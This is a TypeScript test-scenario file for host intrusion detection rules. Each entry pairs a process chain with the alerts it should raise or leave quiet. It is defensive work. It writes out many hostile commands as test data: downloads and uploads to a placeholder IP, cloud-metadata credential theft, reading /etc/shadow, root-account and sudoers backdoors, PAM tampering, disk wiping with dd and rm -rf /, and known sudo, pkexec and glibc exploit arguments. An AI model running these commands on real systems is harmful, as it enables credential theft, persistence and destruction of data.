/** Chains of a log for the detections of sessions, containers, applications and exploits. */
import { type Chain, CRON, session } from './chain.ts';
import type { Scenario } from './scenarios.ts';

/** In a container: the application, and a terminal's shell. */
const APPLICATION: Chain = ['/usr/bin/containerd-shim-runc-v2', 'setsid uid=1000 /app/server'];
const CONTAINER_TERMINAL: Chain = ['/usr/bin/containerd-shim-runc-v2', 'setsid tty=pts0 bash'];
/** With a session that the log tells of. */
const SSHD_AS_UNIT: Chain = ['setsid /usr/sbin/sshd -D', ['no-exec', 'sshd']];
/** Commands that set up a host or a package. */
const SET_UP: Chain = [
  ...['usermod -aG shadow x', 'cp x /etc/pam.d/x', 'cat /etc/shadow', 'cp x /etc/cron.d/x', 'cp x /etc/profile.d/x.sh'],
  ...['tar -czf /srv/x.tgz /etc', 'aws s3 cp x s3://bucket/x', 'mkswap /dev/sdb', 'shred x', 'systemctl enable x'],
  ...['id', 'whoami', 'uname -a', 'ip a', 'ss -t', 'lsblk', 'hostname'],
];
/** The detections that find each such terminal. */
const OF_TERMINAL = ['terminal_shell_in_container'];

export const SESSIONS: readonly Scenario[] = [
  {
    says: 'a mail server runs a command by a shell',
    chain: ['/usr/sbin/exim4 -bd', ['sh', '-c', 'x']],
    found: ['shell_under_other_server'],
  },
  {
    says: 'a VPN server runs a hook that is a script',
    chain: ['/usr/sbin/openvpn --config x', ['sh', '/etc/openvpn/update-resolv-conf', 'tun0']],
    found: [],
    spared: ['shell_under_other_server'],
  },
  {
    says: 'a name server downloads something',
    chain: ['/usr/sbin/named', 'curl http://192.0.2.1/x'],
    found: ['network_tool_under_service'],
  },
  {
    says: 'a job downloads something',
    chain: [...CRON, 'curl http://192.0.2.1/x'],
    found: [],
    spared: ['network_tool_under_service'],
  },
  {
    says: 'a web application in node runs a command, which downloads something',
    chain: ['uid=1000 node /srv/app/server.js', ['sh', '-c', 'curl http://192.0.2.1/x'], 'curl http://192.0.2.1/x'],
    found: ['shell_under_application', 'tool_run_by_application'],
  },
  {
    says: 'an application of its own binary runs whoami',
    chain: ['uid=1000 /srv/app/server', 'whoami'],
    found: ['tool_run_by_application'],
  },
  {
    says: 'an application in a container runs a command',
    chain: [...APPLICATION, ['sh', '-c', 'x']],
    found: ['shell_under_application'],
  },
  {
    says: 'an agent of root in Python runs a command',
    chain: ['python3 /usr/bin/fail2ban-server', ['sh', '-c', 'iptables -w -N f2b']],
    found: [],
    spared: ['shell_under_application'],
  },
  {
    says: 'npm starts an application as a service',
    chain: ['uid=1000 node /usr/bin/npm start', ['sh', '-c', 'node server.js'], 'node server.js'],
    found: ['shell_under_application'],
  },
  {
    says: 'in a session, a program in node runs a command',
    chain: [...session(1000), 'node build.js', ['sh', '-c', 'uname -r'], 'uname -r'],
    found: [],
    spared: ['shell_under_application', 'tool_run_by_application'],
  },
  {
    says: 'an application of root asks for the name of the host',
    chain: ['/opt/agent/bin/agent', 'uname -a'],
    found: [],
    spared: ['tool_run_by_application'],
  },
  {
    says: 'a user opens a terminal in a container',
    chain: [...CONTAINER_TERMINAL, 'ls'],
    found: OF_TERMINAL,
  },
  {
    says: 'a container begins with a shell',
    chain: ['/usr/bin/containerd-shim-runc-v2', ['setsid', 'sh', '/entrypoint.sh']],
    found: [],
    spared: ['terminal_shell_in_container'],
  },
  {
    says: 'in a container’s terminal, packages are installed',
    chain: [...CONTAINER_TERMINAL, 'apt-get install nmap', 'dpkg --unpack x'],
    found: [...OF_TERMINAL, 'package_manager_in_container'],
  },
  {
    says: 'an application in a container installs a package',
    chain: ['/usr/bin/containerd-shim-runc-v2', 'setsid python3 app.py', ['sh', '-c', 'apk add x'], '/sbin/apk add x'],
    found: ['shell_under_application', 'package_manager_in_container'],
  },
  {
    says: 'an image is built from packages',
    chain: ['/usr/bin/buildkit-runc', ['setsid', 'sh', '-c', 'apt-get install x'], 'apt-get install x'],
    found: [],
    spared: ['package_manager_in_container'],
  },
  {
    says: 'in a container’s terminal, a network is scanned',
    chain: [...CONTAINER_TERMINAL, 'nmap 192.0.2.0/24'],
    found: [...OF_TERMINAL, 'network_tool_in_container', 'network_scanned'],
  },
  {
    says: 'a runtime checks a container’s health',
    chain: [
      '/usr/bin/containerd-shim-runc-v2',
      ['setsid', 'sh', '-c', 'curl -f http://localhost/'],
      'curl -f http://localhost/',
    ],
    found: [],
    spared: ['network_tool_in_container'],
  },
  {
    says: 'in a container, kubectl looks for secrets',
    chain: ['/usr/bin/containerd-shim-runc-v2', 'setsid /app/server', 'kubectl get secrets -A'],
    found: ['kubernetes_client_in_container'],
  },
  {
    says: 'in a container’s terminal, the token of its account is read',
    chain: [...CONTAINER_TERMINAL, 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'],
    found: [...OF_TERMINAL, 'kubernetes_client_in_container'],
  },
  {
    says: 'an administrator looks at a cluster',
    chain: [...session(1000), 'kubectl get pods'],
    found: [],
    spared: ['kubernetes_client_in_container'],
  },
  {
    says: 'in a container’s terminal, text is decoded',
    chain: [...CONTAINER_TERMINAL, 'base64 -d x'],
    found: [...OF_TERMINAL, 'text_decoded_in_container'],
  },
  {
    says: 'a container decodes a certificate when it starts',
    chain: ['/usr/bin/containerd-shim-runc-v2', ['setsid', 'sh', '/entrypoint.sh'], 'base64 -d x'],
    found: [],
    spared: ['text_decoded_in_container'],
  },
  {
    says: 'an administrator starts a container with the host as a volume',
    chain: [...session(1000), 'docker run --rm -it -v /:/host alpine chroot /host'],
    found: ['privileged_container_started'],
  },
  {
    says: 'an administrator starts a container with a volume',
    chain: [...session(1000), 'docker run --rm -v /srv/data:/data alpine'],
    found: [],
    spared: ['privileged_container_started'],
  },
  {
    says: 'sshd runs a command before a login',
    chain: [...SSHD_AS_UNIT, ['sh', '-c', 'id > /x']],
    found: ['sshd_child_outside_session'],
  },
  {
    says: 'sshd checks a password',
    chain: [...SSHD_AS_UNIT, '/usr/sbin/unix_chkpwd root nullok'],
    found: [],
    spared: ['sshd_child_outside_session'],
  },
  {
    says: 'sshd asks for a user’s keys, and opens a session',
    chain: [...SSHD_AS_UNIT, 'uid=65534 /usr/bin/sss_ssh_authorizedkeys x'],
    found: [],
    spared: ['sshd_child_outside_session'],
  },
  {
    says: 'root logs in',
    chain: [...SSHD_AS_UNIT, 'setsid uid=0 tty=pts0 address=203.0.113.24 bash', 'ls'],
    found: [],
    spared: ['sshd_child_outside_session', 'login_of_system_account', 'reconnaissance_in_session'],
  },
  {
    says: 'pkexec without arguments',
    chain: [...session(1000), './exploit', 'argv0= euid=0 pkexec'],
    found: ['setuid_program_without_name'],
  },
  {
    says: 'pkexec with a command',
    chain: [...session(1000), 'euid=0 pkexec ls'],
    found: [],
    spared: ['setuid_program_without_name'],
  },
  {
    says: 'sudoedit with a backslash at the end',
    chain: [...session(1000), ['argv0=sudoedit', 'euid=0', 'sudo', '-s', 'AAAA\\']],
    found: ['sudo_exploit_arguments'],
  },
  {
    says: 'sudo as the user -1',
    chain: [...session(1000), 'euid=0 sudo -u#-1 id'],
    found: ['sudo_exploit_arguments'],
  },
  {
    says: 'sudo with a root directory of its caller',
    chain: [...session(1000), 'euid=0 sudo -R woot woot'],
    found: ['sudo_exploit_arguments'],
  },
  {
    says: 'sudoedit of a file',
    chain: [...session(1000), 'argv0=sudoedit euid=0 sudo /etc/hosts', 'euid=0 sudo ls -R /srv'],
    found: [],
    spared: ['sudo_exploit_arguments'],
  },
  {
    says: 'tunables for a setuid program',
    chain: [...session(1000), 'env GLIBC_TUNABLES=glibc.malloc.mxfast=x su --help'],
    found: ['loader_tunables_set'],
  },
  {
    says: 'an environment for a program',
    chain: [...session(1000), 'env LANG=C ls'],
    found: [],
    spared: ['loader_tunables_set'],
  },
  {
    says: 'a file is made setuid',
    chain: [...session(0), 'chmod u+s /var/x'],
    found: ['setuid_bit_set'],
  },
  { says: 'a file is made setuid by a number', chain: [...session(0), 'chmod 4755 /var/x'], found: ['setuid_bit_set'] },
  {
    says: 'python may become root',
    chain: [...session(0), 'setcap cap_setuid+ep /usr/bin/python3.11'],
    found: ['setuid_bit_set'],
  },
  {
    says: 'a package makes its program setuid',
    chain: [...session(0), 'apt-get install x', 'dpkg --configure x', 'sh x.postinst', 'chmod 4755 /usr/bin/x'],
    found: [],
    spared: ['setuid_bit_set'],
  },
  {
    says: 'a directory gives its group to new files, a script is made executable',
    chain: [...session(0), 'chmod 2775 /srv/x', 'chmod g+s /srv/x', 'chmod +x /srv/x.sh'],
    found: [],
    spared: ['setuid_bit_set'],
  },
  {
    says: 'a setuid shell is used',
    chain: [...session(1000), 'euid=0 bash -p'],
    found: ['setuid_shell_used'],
  },
  {
    says: 'a copy of a shell under another name is setuid',
    chain: [...session(1000), 'euid=0 /var/lib/.x -p'],
    found: ['setuid_shell_used'],
  },
  {
    says: 'a setuid program of the system is used',
    chain: [...session(1000), 'euid=0 passwd'],
    found: [],
    spared: ['setuid_shell_used'],
  },
  {
    says: 'a second root is made',
    chain: [...session(0), 'useradd -o -u 0 -g 0 toor'],
    found: ['account_with_root_id'],
  },
  {
    says: 'a second root is written by a shell',
    chain: [...session(0), ['bash', '-c', 'echo toor::0:0::/root:/bin/sh >> /etc/passwd']],
    found: ['account_with_root_id'],
  },
  {
    says: 'an account is made',
    chain: [...session(0), 'useradd -u 1001 x'],
    found: [],
    spared: ['account_with_root_id'],
  },
  {
    says: 'a user becomes an administrator',
    chain: [...session(0), 'usermod -aG sudo x'],
    found: ['admin_rights_given'],
  },
  {
    says: 'a line for sudo is written',
    chain: [...session(0), ['sh', '-c', 'echo "x ALL=NOPASSWD: ALL" | tee /etc/sudoers.d/x'], 'tee /etc/sudoers.d/x'],
    found: ['admin_rights_given'],
  },
  {
    says: 'a user joins a group',
    chain: [...session(0), 'usermod -aG audio x'],
    found: [],
    spared: ['admin_rights_given'],
  },
  {
    says: 'a key is added by a pipe',
    chain: [...session(1000), 'tee -a /root/.ssh/authorized_keys'],
    found: ['ssh_key_added'],
  },
  {
    says: 'a key is added by a command',
    chain: [...session(1000), ['sh', '-c', 'echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys']],
    found: ['ssh_key_added'],
  },
  {
    says: 'keys are looked at, and copied to a backup',
    chain: [...session(1000), 'cat /home/x/.ssh/authorized_keys', 'cp /home/x/.ssh/authorized_keys /srv/keys.bak'],
    found: [],
    spared: ['ssh_key_added'],
  },
  {
    says: 'a crontab is installed from a pipe',
    chain: [...session(1000), 'crontab -'],
    found: ['cron_changed_by_hand'],
  },
  {
    says: 'a job is written to cron’s directory',
    chain: [...session(0), 'cp x /etc/cron.d/x'],
    found: ['cron_changed_by_hand'],
  },
  {
    says: 'an administrator lists and edits jobs',
    chain: [...session(0), 'crontab -l', 'crontab -u www-data -e', 'cat /etc/crontab'],
    found: [],
    spared: ['cron_changed_by_hand'],
  },
  {
    says: 'a unit is enabled in a session',
    chain: [...session(0), 'systemctl enable x.service'],
    found: ['unit_made_by_hand'],
  },
  {
    says: 'a unit is written by a command',
    chain: [...session(0), 'cp x.service /etc/systemd/system/x.service'],
    found: ['unit_made_by_hand'],
  },
  {
    says: 'a package enables its unit',
    chain: [...session(0), 'apt-get install x', 'dpkg --configure x', 'systemctl enable x.service'],
    found: [],
    spared: ['unit_made_by_hand'],
  },
  {
    says: 'a unit is started again',
    chain: [...session(0), 'systemctl restart nginx.service'],
    found: [],
    spared: ['unit_made_by_hand'],
  },
  {
    says: 'PAM accepts every password',
    chain: [...session(0), ['sed', '-i', 's/required/sufficient/', '/etc/pam.d/common-auth']],
    found: ['authentication_changed'],
  },
  {
    says: 'a module of PAM is replaced',
    chain: [...session(0), 'cp x.so /lib/x86_64-linux-gnu/security/pam_unix.so'],
    found: ['authentication_changed'],
  },
  {
    says: 'PAM’s configuration is looked at and kept',
    chain: [...session(0), ['sed', '-n', '1,9p', '/etc/pam.d/sshd'], 'cp /etc/pam.d/sshd /srv/sshd.bak'],
    found: [],
    spared: ['authentication_changed'],
  },
  {
    says: 'a command is added to every login',
    chain: [...session(0), ['sh', '-c', 'echo x >> /etc/profile.d/x.sh']],
    found: ['startup_file_changed'],
  },
  {
    says: 'a shell reads a profile and discards errors',
    chain: [...session(0), ['sh', '-c', '. /etc/profile 2>/dev/null; env']],
    found: [],
    spared: ['startup_file_changed'],
  },
  {
    says: 'private keys are searched for',
    chain: [...session(1000), ['find', '/', '-name', 'id_rsa*']],
    found: ['credentials_searched'],
  },
  {
    says: 'passwords are searched for',
    chain: [...session(1000), 'grep -ri password /etc /home'],
    found: ['credentials_searched'],
  },
  {
    says: 'a log is searched, a file is found by its name',
    chain: [...session(1000), 'grep -i password: notes.txt', ['find', '.', '-name', '*.ts']],
    found: [],
    spared: ['credentials_searched'],
  },
  {
    says: 'in a session, password hashes are read',
    chain: [...session(0), 'cat /etc/shadow'],
    found: ['credentials_read_in_session'],
  },
  {
    says: 'in a session, a private key is copied',
    chain: [...session(0), 'cp /home/x/.ssh/id_ed25519 /srv'],
    found: ['credentials_read_in_session'],
  },
  {
    says: 'a backup by a unit packs password hashes',
    chain: ['/usr/bin/backup', 'tar -cf /srv/b.tar /etc/shadow'],
    found: [],
    spared: ['credentials_read_in_session', 'data_packed'],
  },
  {
    says: 'in a session, a public key is read',
    chain: [...session(1000), 'cat /home/x/.ssh/id_ed25519.pub'],
    found: [],
    spared: ['credentials_read_in_session'],
  },
  {
    says: 'in a session, the cloud is asked for the host’s credentials',
    chain: [...session(1000), 'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
    found: ['cloud_metadata_read'],
  },
  {
    says: 'root’s agent asks the cloud for the host’s name',
    chain: ['/usr/bin/agent', 'curl http://169.254.169.254/latest/meta-data/hostname'],
    found: [],
    spared: ['cloud_metadata_read'],
  },
  {
    says: 'in a session, a disk is overwritten',
    chain: [...session(0), 'dd if=/dev/zero of=/dev/sda bs=1M'],
    found: ['disk_overwritten'],
  },
  {
    says: 'in a session, a disk is formatted',
    chain: [...session(0), 'mkfs.ext4 /dev/nvme0n1'],
    found: ['disk_overwritten'],
  },
  {
    says: 'in a session, a disk is copied, and an image made',
    chain: [
      ...session(0),
      'dd if=/dev/sda of=/srv/image',
      'mkfs.ext4 /srv/image',
      'cp x /dev/shm/x',
      'sgdisk -p /dev/sda',
    ],
    found: [],
    spared: ['disk_overwritten'],
  },
  {
    says: 'a disk is formatted at the boot',
    chain: ['/usr/bin/growpart', 'mkfs.ext4 /dev/sdb1'],
    found: [],
    spared: ['disk_overwritten'],
  },
  {
    says: 'in a session, everything is removed',
    chain: [...session(0), 'rm -rf --no-preserve-root /'],
    found: ['files_destroyed'],
  },
  { says: 'in a session, all homes are removed', chain: [...session(0), 'rm -rf /home'], found: ['files_destroyed'] },
  { says: 'in a session, a file is shredded', chain: [...session(1000), 'shred -u x'], found: ['files_destroyed'] },
  {
    says: 'in a session, a directory is removed',
    chain: [
      ...session(0),
      'rm -rf /var/cache/x',
      'rm -r /home/x/old build',
      ['find', '/var/log', '-name', '*.gz', '-delete'],
    ],
    found: [],
    spared: ['files_destroyed'],
  },
  {
    says: 'in a session, homes are packed into /tmp',
    chain: [...session(0), 'tar -czf /tmp/x.tgz /home'],
    found: ['data_packed'],
  },
  {
    says: 'in a session, an archive with a password is made',
    chain: [...session(1000), 'zip -P x out.zip a b'],
    found: ['data_packed'],
  },
  {
    says: 'in a session, sources are packed, and an archive unpacked',
    chain: [...session(1000), 'tar -czf x.tgz src', 'tar -xzf /srv/x.tgz -C /srv'],
    found: [],
    spared: ['data_packed'],
  },
  {
    says: 'in a session, a file is uploaded',
    chain: [...session(1000), 'curl -T x.tgz https://192.0.2.1/x'],
    found: ['data_sent_out'],
  },
  {
    says: 'in a session, files go to a bucket',
    chain: [...session(1000), 'aws s3 cp x.tgz s3://bucket/x.tgz', 'rclone copy /srv remote:x'],
    found: ['data_sent_out'],
  },
  {
    says: 'in a session, a file comes from a bucket, another is listed',
    chain: [...session(1000), 'aws s3 cp s3://bucket/x.tgz x.tgz', 'rclone ls remote:x'],
    found: [],
    spared: ['data_sent_out'],
  },
  {
    says: 'in a session, a page is downloaded',
    chain: [...session(1000), 'curl -sS -o x.html https://192.0.2.1/x'],
    found: [],
    spared: ['data_sent_out', 'cloud_metadata_read'],
  },
  {
    says: 'in a session, six discovery programs run',
    chain: [...session(1000), 'id', 'whoami', 'uname -a', 'ip a', 'ss -tlnp', 'lsblk'],
    found: ['reconnaissance_in_session'],
  },
  {
    says: 'in a session, an administrator looks at the host',
    chain: [...session(1000), 'uname -r', 'ps aux', 'ls', 'df', 'uname -r', 'ss -tlnp', 'free'],
    found: [],
    spared: ['reconnaissance_in_session'],
  },
  {
    says: 'in a session, setuid files are searched',
    chain: [...session(1000), 'find / -perm -4000 -type f'],
    found: ['ways_to_root_searched'],
  },
  {
    says: 'in a session, a tool searches ways to root',
    chain: [...session(1000), 'sh ./linpeas.sh'],
    found: ['ways_to_root_searched'],
  },
  {
    says: 'in a session, files are searched by their mode',
    chain: [...session(1000), 'find /srv -not -perm -0444'],
    found: [],
    spared: ['ways_to_root_searched'],
  },
  {
    says: 'in a session, a network is scanned',
    chain: [...session(1000), 'masscan 192.0.2.0/24'],
    found: ['network_scanned'],
  },
  {
    says: 'a monitor looks for a host',
    chain: ['/usr/bin/monitor', 'fping 192.0.2.1'],
    found: [],
    spared: ['network_scanned'],
  },
  {
    says: 'in a session, traffic is recorded',
    chain: [...session(0), 'tcpdump -i any -w x'],
    found: ['network_sniffed'],
  },
  {
    says: 'a unit records traffic',
    chain: ['/usr/bin/recorder', 'dumpcap -i any'],
    found: [],
    spared: ['network_sniffed'],
  },
  { says: 'a tool for remote control runs', chain: ['/usr/bin/rustdesk --service'], found: ['remote_access_tool'] },
  {
    says: 'in a session, tmux runs',
    chain: [...session(1000), 'tmux'],
    found: [],
    spared: ['remote_access_tool'],
  },
  { says: 'a service account logs in', chain: [...session(33)], found: ['login_of_system_account'] },
  {
    says: 'a user logs in and becomes a service account',
    chain: [...session(1000), 'euid=0 sudo -u postgres psql', 'uid=110 psql'],
    found: [],
    spared: ['login_of_system_account'],
  },
  {
    says: 'a program in /dev/shm is executed',
    chain: ['/usr/bin/agent', '/dev/shm/x'],
    found: ['shared_memory_file_executed'],
  },
  {
    says: 'a file in /dev/shm is read',
    chain: ['/usr/bin/agent', 'cat /dev/shm/x'],
    found: [],
    spared: ['shared_memory_file_executed'],
  },
  {
    says: 'a package sets itself up',
    chain: [...session(0), 'apt-get install x', 'dpkg --configure x', 'sh x.postinst', ...SET_UP],
    found: [],
    spared: ['admin_rights_given', 'authentication_changed', 'startup_file_changed', 'cron_changed_by_hand'],
  },
  {
    says: 'a unit sets the host up at the boot',
    chain: ['/usr/bin/provisioning', ...SET_UP, 'tee /root/.ssh/authorized_keys', 'find / -perm -4000'],
    found: [],
    spared: ['admin_rights_given', 'authentication_changed', 'startup_file_changed', 'ssh_key_added'],
  },
  {
    says: 'in a session, notes are read, and words of exploits looked for',
    chain: [
      ...session(1000),
      'less 169.254.169.254.txt',
      'grep GLIBC_TUNABLES=glibc.malloc notes',
      ['grep', '-e', 'docker run --privileged', 'notes'],
      ['grep', '-e', 'sudo -u#-1', 'notes'],
      'docker inspect x --privileged',
      'argv0= ls',
      'base64 -d x',
    ],
    found: [],
    spared: ['cloud_metadata_read', 'loader_tunables_set', 'text_decoded_in_container', 'privileged_container_started'],
  },
  {
    says: 'an application runs a script of its own, and a program whose name ends as that of a shell',
    chain: ['uid=1000 node /srv/app/server.js', 'sh /srv/app/x.sh', 'node x.js', '/usr/bin/refresh -c x'],
    found: [],
    spared: ['shell_under_application'],
  },
  {
    says: 'a mail server runs a program whose name ends as that of a shell',
    chain: ['/usr/sbin/exim4 -bd', '/usr/bin/refresh -c x'],
    found: [],
    spared: ['shell_under_other_server'],
  },
  {
    says: 'sshd greets a user who has logged in',
    chain: ['setsid /usr/sbin/sshd -D', 'address=203.0.113.24 no-exec sshd', 'sh /etc/update-motd.d/10-uname'],
    found: [],
    spared: ['sshd_child_outside_session'],
  },
  {
    says: 'sshd opens a session for root without a login id',
    chain: [...SSHD_AS_UNIT, 'setsid tty=pts0 bash'],
    found: [],
    spared: ['sshd_child_outside_session'],
  },
  {
    says: 'in a container, a terminal begins with a program whose name ends as that of a shell',
    chain: ['/usr/bin/containerd-shim-runc-v2', 'setsid tty=pts0 refresh'],
    found: [],
    spared: ['terminal_shell_in_container'],
  },
  {
    says: 'in a container, a script gives its child a terminal',
    chain: ['/usr/bin/containerd-shim-runc-v2', 'setsid sh /entrypoint.sh', 'tty=pts0 bash /x.sh'],
    found: [],
    spared: ['terminal_shell_in_container'],
  },
  {
    says: 'in a container, Python at a terminal runs id',
    chain: ['/usr/bin/containerd-shim-runc-v2', 'setsid tty=pts0 python3', ['sh', '-c', 'id'], 'id'],
    found: OF_TERMINAL,
    spared: ['tool_run_by_application'],
  },
];
